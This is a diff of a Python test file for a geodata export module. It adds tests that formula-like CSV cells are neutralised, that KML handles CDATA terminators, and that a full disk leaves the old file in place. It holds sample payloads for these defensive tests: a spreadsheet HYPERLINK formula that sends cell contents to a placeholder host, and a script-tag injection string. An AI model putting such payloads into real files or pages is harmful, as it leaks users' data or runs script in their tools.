@@ -205,7 +205,8 @@ def test_reprojection_to_metric_crs(layers, tmp_path, fmt):
 
 
 def test_csv_layout(layers, tmp_path):
-    (path,) = export.export_layers(layers, tmp_path / "s.csv", fmt="csv", layers_wanted=["stations"])
+    (path,) = export.export_layers(layers, tmp_path / "stations.csv", fmt="csv", layers_wanted=["stations"]
+    )
     df = pd.read_csv(path, dtype=str, keep_default_na=False)
     assert list(df.columns[-3:]) == ["lon", "lat", "wkt"]
     assert df.loc[1, "lon"] == "116.82"
@@ -361,3 +362,94 @@ def test_kml_layout(layers, tmp_path):
     back = export.read_back(path)
     assert list(back) == ["rail", "stations", "zones"]
     assert back["stations"]["name"].tolist() == layers["stations"]["name_zh"].tolist()
+
+
+# --------------------------------------------------------------------------- hostile text, full disks
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "@SUM(A1:A9)", "+1+2", "-3+4", "\tTAB", "\rCR", "'已加引号"]
+
+
+def test_csv_cells_that_look_like_formulas_are_neutralised_and_round_trip(layers, tmp_path):
+    rail = layers["rail"].iloc[:1].copy()
+    stations = pd.concat([layers["stations"]] * 3, ignore_index=True).iloc[: len(FORMULAS)].copy()
+    stations["id"] = [f"station-f{i}" for i in range(len(FORMULAS))]
+    stations["name_zh"] = FORMULAS
+    stations["timeline"] = [[{"quote": f}] for f in FORMULAS]
+    (path,) = export.export_layers(
+        {"stations": stations, "rail": rail}, tmp_path / "stations.csv", fmt="csv", layers_wanted=["stations"]
+    )
+    import csv
+
+    with open(path, encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["name_zh"] for r in rows] == ["'" + f for f in FORMULAS]
+    for r in rows:  # no cell a spreadsheet would run: text starts with a letter, quote or bracket
+        for key, cell in r.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), (key, cell)
+    back = export.read_back(path)["stations"]
+    assert back["name_zh"].tolist() == FORMULAS
+    assert [t[0]["quote"] for t in back["timeline"]] == FORMULAS
+
+
+def _is_number(text):
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_kml_keeps_a_quote_holding_the_cdata_terminator(layers, tmp_path):
+    quote = "工程 ]]><script>alert(1)</script> 完成"
+    rail = layers["rail"].copy()
+    rail["timeline"] = [[{**TIMELINE[0], "quote": quote}], []]
+    (path,) = export.export_layers({"rail": rail}, tmp_path / "r.kml", fmt="kml")
+    import xml.etree.ElementTree as ET
+
+    ET.parse(path)  # well-formed XML
+    back = export.read_back(path)["rail"]
+    assert back["timeline"].iloc[0][0]["quote"] == quote
+
+
+def test_kml_refuses_plain_text_holding_the_cdata_terminator_cleanly(layers, tmp_path):
+    rail = layers["rail"].copy()
+    rail["name_en"] = ["Line ]]> 22", "ok"]
+    target = tmp_path / "r.kml"
+    with pytest.raises(export.ExportError, match=r"layer rail, feature metro-line-22, column name_en: .*'\]\]>'"):
+        export.export_layers({"rail": rail}, target, fmt="kml")
+    assert list(tmp_path.iterdir()) == []
+
+
+_FULL_DISK = """
+import resource, signal, sys
+import geopandas as gpd
+from shapely.geometry import Point
+from geo import export
+from geo.errors import GeoError
+signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write over the limit fails with EFBIG instead
+n = 3000
+gdf = gpd.GeoDataFrame({"id": [f"station-{i}" for i in range(n)], "name_zh": ["燕郊站" * 20] * n},
+                       geometry=[Point(116.8, 39.9)] * n, crs="EPSG:4326")
+resource.setrlimit(resource.RLIMIT_FSIZE, (60_000, 60_000))  # the "disk" holds 60 kB per file
+try:
+    export.export_layers({"stations": gdf}, sys.argv[2], fmt=sys.argv[1])
+except GeoError as exc:
+    print(type(exc).__name__, exc)
+    sys.exit(3)
+"""
+
+
+@pytest.mark.parametrize(("fmt", "name"), [("gpkg", "l.gpkg"), ("kml", "l.kml"), ("csv", "stations.csv"), ("geojson", "stations.geojson")])
+def test_a_full_disk_gives_a_clean_error_and_keeps_the_old_file(layers, tmp_path, fmt, name):
+    import subprocess
+    import sys
+
+    target = tmp_path / name
+    target.write_bytes(b"the previous export")
+    r = subprocess.run([sys.executable, "-c", _FULL_DISK, fmt, str(target)], capture_output=True, text=True)
+    assert r.returncode == 3, r.stderr
+    assert r.stdout.startswith("ExportError could not write " + str(target))
+    assert "nothing was replaced" in r.stdout
+    assert "Traceback" not in r.stderr
+    assert target.read_bytes() == b"the previous export"
+    assert [p.name for p in tmp_path.iterdir()] == [name]  # no temporary or journal file left
